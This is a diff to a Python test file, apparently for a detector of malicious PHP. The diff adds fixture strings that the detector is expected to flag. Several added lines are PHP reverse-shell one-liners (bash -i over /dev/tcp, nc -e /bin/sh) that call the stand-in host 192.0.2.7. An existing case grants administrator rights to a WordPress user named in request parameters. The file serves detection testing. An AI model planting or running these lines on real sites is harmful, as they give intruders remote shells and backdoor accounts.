@@ -36,6 +36,13 @@ def marks(source: str) -> list[str]:
             "php-shell-calls-out",
         ),
         (
+            "exec(\"/bin/bash -c 'nohup setsid bash -i > /dev/tcp/192.0.2.7/1337 0>&1'\");",
+            "php-shell-calls-out",
+        ),
+        ("$c = 'nc -e /bin/sh 192.0.2.7 443'; shell_exec($c);", "php-shell-calls-out"),
+        ("system('bash -i >& /dev/tcp/192.0.2.7/4 0>&1');", "php-shell-calls-out"),
+        ("$a = `bash -i >& /dev/tcp/192.0.2.7/4 0>&1`;", "php-shell-calls-out"),
+        (
             "$i = wp_create_user($_GET['u'], $_GET['p']); $u->set_role('administrator');",
             "php-grants-account",
         ),
@@ -76,6 +83,10 @@ def test_points_at(source, mark):
     "source",
     [
         "wp_create_user($name, $password, $mail);",
+        # commands that a site runs itself
+        "exec('convert -version'); system(\"nc -z localhost 11211 && echo yes\"); $a = `git log -1`;",
+        "shell_exec('/bin/bash -c \"mysqldump db | gzip > /srv/db.gz\"');",
+        "exec('(exec 3<>/dev/tcp/127.0.0.1/6379) && echo open');",
         # somebody changes his own password, which he knows
         "$r = new COM('WinNT:'); $u = $r->OpenDSObject('WinNT://h/' . $n . ',user', $n, $old, 1);"
         " $u->ChangePassword($old, $new);",
